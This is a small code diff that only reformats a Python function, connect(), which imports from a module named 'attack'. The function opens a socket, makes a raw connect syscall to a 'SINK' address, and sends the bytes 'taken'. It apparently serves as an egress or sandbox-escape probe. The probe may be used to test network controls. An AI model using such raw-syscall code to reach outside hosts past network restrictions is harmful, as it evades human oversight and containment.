@@ -14,6 +14,11 @@ from attack import SINK, address, attempt, libc
 def connect():
     out = socket.socket()
     where = address(*SINK)
-    if libc().syscall(ctypes.c_long(42), ctypes.c_long(out.fileno()), where, ctypes.c_long(len(where))) != 0:
+    if (
+        libc().syscall(
+            ctypes.c_long(42), ctypes.c_long(out.fileno()), where, ctypes.c_long(len(where))
+        )
+        != 0
+    ):
         raise OSError(ctypes.get_errno(), "syscall")
     return out.send(b"taken") == 5
